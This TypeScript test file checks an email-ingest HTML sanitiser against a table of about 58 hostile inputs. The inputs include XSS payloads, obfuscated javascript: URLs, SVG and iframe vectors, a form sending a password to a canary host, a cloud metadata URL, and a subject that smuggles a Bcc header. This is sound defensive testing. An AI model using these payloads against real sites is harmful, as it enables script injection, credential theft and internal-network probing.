import { describe, expect, it } from 'vitest';
import { DEFAULT_ATTACHMENT_POLICY, parseMessage } from '../../../src/ingest/parse.js';
import { sanitizeMessageHtml } from '../../../src/ingest/parse/sanitize-html.js';
import { buildEml } from './build-eml.js';

/**
 * A small DOM check over sanitised output. sanitize-html serialises every tag with double-quoted,
 * entity-escaped attribute values, so its output can be read with this pattern; anything that did
 * not come out as a tag is text (escaped), which a browser will not run either.
 */
const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*\/?>/g;
const ATTRIBUTE = /\s+([^\s=/>]+)(?:="([^"]*)")?/g;

interface Element {
  tag: string;
  attributes: Map<string, string>;
}

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#([0-9]+);?/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

function elements(html: string): Element[] {
  return [...html.matchAll(TAG)].map((match) => ({
    tag: match[1]!.toLowerCase(),
    attributes: new Map([...match[2]!.matchAll(ATTRIBUTE)].map((attr) => [attr[1]!.toLowerCase(), decodeEntities(attr[2] ?? '')])),
  }));
}

const FORBIDDEN_TAGS = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'meta', 'base', 'link', 'svg', 'math', 'textarea', 'select'];
const DANGEROUS_SCHEME = /^\s*(?:javascript|vbscript|data|file|livescript):/i;

/** Asserts the sanitised HTML can run nothing and load nothing by itself (TESTPLAN S1, S11). */
function expectInert(html: string): void {
  expect(html.toLowerCase()).not.toContain('<script');
  for (const element of elements(html)) {
    expect(FORBIDDEN_TAGS).not.toContain(element.tag);
    for (const [name, value] of element.attributes) {
      expect(name.startsWith('on'), `event attribute ${name}`).toBe(false);
      expect(['style', 'srcset', 'background', 'srcdoc', 'formaction', 'xlink:href', 'action', 'poster', 'lowsrc', 'dynsrc'], name).not.toContain(name);
      expect(value.replace(/[\u0000-\u0020]/g, ''), `${name}=${value}`).not.toMatch(DANGEROUS_SCHEME);
    }
    const src = element.attributes.get('src');
    if (src !== undefined) expect(src, 'only cid: images').toMatch(/^cid:/i);
    const href = element.attributes.get('href');
    if (href !== undefined) expect(href).toMatch(/^(?:https?|mailto):/i);
    if (element.tag === 'a' && href !== undefined) {
      expect(element.attributes.get('rel')).toBe('noopener noreferrer nofollow');
      expect(element.attributes.get('target')).toBe('_blank');
    }
  }
}

const CANARY = 'http://canary.test';
const PAYLOADS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://canary.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:ok@x" onerror="alert(1)" onload="alert(2)">',
  '<body onload=alert(1)>text</body>',
  '<div onmouseover="alert(1)">hover</div>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="&#x6A;avascript:alert(1)">hex entity</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="/relative/path">relative</a>',
  '<a href="//canary.test/x">protocol relative</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  `<img src="${CANARY}/pixel.gif">`,
  `<img src="${CANARY}/a.png" srcset="${CANARY}/b.png 2x">`,
  `<img src="//canary.test/c.png">`,
  `<img src="http://127.0.0.1/admin">`,
  `<img src="http://169.254.169.254/latest/meta-data/">`,
  `<img src="relative.png">`,
  `<picture><source srcset="${CANARY}/d.png"><img src="cid:e@x"></picture>`,
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  `<iframe src="${CANARY}/frame"></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<object data="${CANARY}/o.swf"></object>`,
  `<embed src="${CANARY}/e.swf">`,
  `<form action="${CANARY}/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}/refresh">`,
  `<base href="${CANARY}/">`,
  `<link rel="stylesheet" href="${CANARY}/s.css">`,
  `<style>@import url(${CANARY}/i.css); body { background: url(${CANARY}/bg.png) }</style>`,
  `<div style="background-image: url(${CANARY}/bg.png)">css url</div>`,
  '<div style="width: expression(alert(1))">css expression</div>',
  `<table background="${CANARY}/t.png"><tr><td background="${CANARY}/td.png">cell</td></tr></table>`,
  `<body background="${CANARY}/b.png">x</body>`,
  `<video poster="${CANARY}/p.png"><source src="${CANARY}/v.mp4"></video>`,
  `<audio src="${CANARY}/a.mp3"></audio>`,
  '<a href="https://ok.example/" onclick="alert(1)" style="color:red">fine link</a>',
  '<div><p>nested <b>broken <i>tags</div></b>',
  '<<script>script>alert(1)<</script>/script>',
  '<img """><script>alert(1)</script>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<a href="mailto:x@example.com?subject=hi">mail</a>',
  '<isindex action="javascript:alert(1)" type="image">',
  `<input type="image" src="${CANARY}/in.png">`,
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x-custom onfocus=alert(1) autofocus tabindex=1>x</x-custom>',
  `<a href="${CANARY}/ok">a remote link is fine: it loads nothing until clicked</a>`,
];

describe('sanitizeMessageHtml: XSS and remote-content payloads (TESTPLAN S1, S11)', () => {
  it('has a table of at least 40 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(PAYLOADS.map((payload) => [payload]))('%s', (payload) => {
    const html = sanitizeMessageHtml(`<p>before</p>${payload}<p>after</p>`);
    expectInert(html);
    // Nothing that loads by itself may point at the canary (links only load when clicked).
    for (const element of elements(html)) expect(element.attributes.get('src') ?? '').not.toContain('canary');
  });

  it('keeps basic formatting, cid: images and safe links', () => {
    const html = sanitizeMessageHtml(
      '<h1>Title</h1><p>A <b>bold</b> <i>word</i> and <a href="https://example.com/a?b=1">link</a>.</p>' +
        '<ul><li>one</li></ul><blockquote>quote</blockquote><table><tr><td colspan="2">cell</td></tr></table>' +
        '<img src="cid:logo@x" alt="logo" width="10">',
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<b>bold</b>');
    expect(html).toContain('<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow" target="_blank">link</a>');
    expect(html).toContain('<td colspan="2">cell</td>');
    expect(html).toContain('<img src="cid:logo@x" alt="logo" width="10" />');
    expectInert(html);
  });

  it('returns storable text: no NUL (PostgreSQL refuses it) and no lone surrogate', () => {
    expect(sanitizeMessageHtml('<p>a\u0000b <b>c\u0000</b>\ud800</p>')).toBe('<p>ab <b>c</b>\ufffd</p>');
  });

  it('flattens 100,000 nested divs quickly and cuts HTML over 1 MiB with a marker', () => {
    const started = performance.now();
    const deep = sanitizeMessageHtml('<div>'.repeat(100_000) + 'deep text' + '</div>'.repeat(100_000));
    expect(deep).toContain('deep text');
    const big = sanitizeMessageHtml('<p>hello <b>world</b></p>'.repeat(200_000));
    expect(big.endsWith('<p>[… truncated]</p>')).toBe(true);
    expect(performance.now() - started).toBeLessThan(5_000); // generous: a guard against quadratic time, not a benchmark
  });
});

describe('parseMessage: hostile HTML, subjects, names and filenames come back inert', () => {
  it('sanitises the HTML body and keeps headers plain', async () => {
    const raw = buildEml({
      headers: [
        `Subject: =?UTF-8?B?${Buffer.from('<script>alert(1)</script>\r\nBcc: x@example.com').toString('base64')}?=`,
        'From: "<img src=x onerror=alert(1)>" <a@example.com>',
      ],
      html: PAYLOADS.join('\n'),
      parts: [{ contentType: 'text/plain', filename: '<svg onload=alert(1)>\u0000.txt', content: Buffer.from('x') }],
    });
    const m = await parseMessage(raw, DEFAULT_ATTACHMENT_POLICY);
    expectInert(m.html ?? '');
    expect(m.subject).toBe('<script>alert(1)</script>Bcc: x@example.com');
    expect(m.from?.name).toBe('<img src=x onerror=alert(1)>');
    expect(m.attachments.map((a) => a.filename)).toEqual(['_svg onload=alert(1)_.txt']);
  });
});
